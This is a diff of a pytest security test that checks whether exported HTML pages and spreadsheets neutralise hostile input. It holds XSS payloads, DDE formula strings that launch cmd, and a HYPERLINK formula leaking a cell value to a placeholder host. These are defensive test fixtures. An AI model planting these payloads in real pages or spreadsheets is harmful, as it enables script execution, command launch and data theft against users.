@@ -12,9 +12,9 @@ from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
+from conftest import run_cli
 from openpyxl import load_workbook
 
-from conftest import run_cli
 from induction_analysis import cli, exports
 
 pytestmark = pytest.mark.slow
@@ -25,11 +25,17 @@ MARKUP = [
     f"<script>{SIGNAL}</script>",
     f'<img src=x onerror="{SIGNAL}">',
     f'"><svg onload="{SIGNAL}">',
-    f"</td></tr></table><iframe srcdoc=\"<script>parent.{SIGNAL}</script>\"></iframe>",
+    f'</td></tr></table><iframe srcdoc="<script>parent.{SIGNAL}</script>"></iframe>',
     "{{ 7*7 }} ${7*7} <!-- comment --> &amp; &lt;b&gt;",
 ]
-FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 CORPUS = MARKUP + FORMULAS
 YEAR = "2025-26"
 
@@ -115,14 +121,32 @@ def test_no_page_runs_injected_script_in_a_real_browser(hostile, tmp_path):
         # as parsed: no element or event handler came from the data
         parsed = _Elements(page.read_text())
         assert not [t for t, _ in parsed.elements if t in ("iframe", "svg", "object", "embed")], page.name
-        assert not [(t, a) for t, attrs in parsed.elements for a in attrs if a.lower().startswith("on") or a == "srcdoc"], page.name
+        assert not [
+            (t, a) for t, attrs in parsed.elements for a in attrs if a.lower().startswith("on") or a == "srcdoc"
+        ], page.name
         assert not [s for s in parsed.scripts if "PWNED" in s], page.name
-        assert all(attrs.get("src", "data:").startswith("data:") for t, attrs in parsed.elements if t == "img"), page.name
+        assert all(attrs.get("src", "data:").startswith("data:") for t, attrs in parsed.elements if t == "img"), (
+            page.name
+        )
         done = subprocess.run(
-            [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
-             "--disable-sync", "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=3000",
-             "--dump-dom", page.as_uri()],
-            capture_output=True, text=True, timeout=120)
+            [
+                CHROMIUM,
+                "--headless",
+                "--no-sandbox",
+                "--disable-gpu",
+                "--disable-background-networking",
+                "--disable-component-update",
+                "--disable-sync",
+                "--no-first-run",
+                f"--user-data-dir={tmp_path / 'profile'}",
+                "--virtual-time-budget=3000",
+                "--dump-dom",
+                page.as_uri(),
+            ],
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
         dom = done.stdout
         assert done.returncode == 0 and "<body" in dom, (page.name, done.stderr[-300:])
         root = re.search(r"<html[^>]*>", dom).group(0)
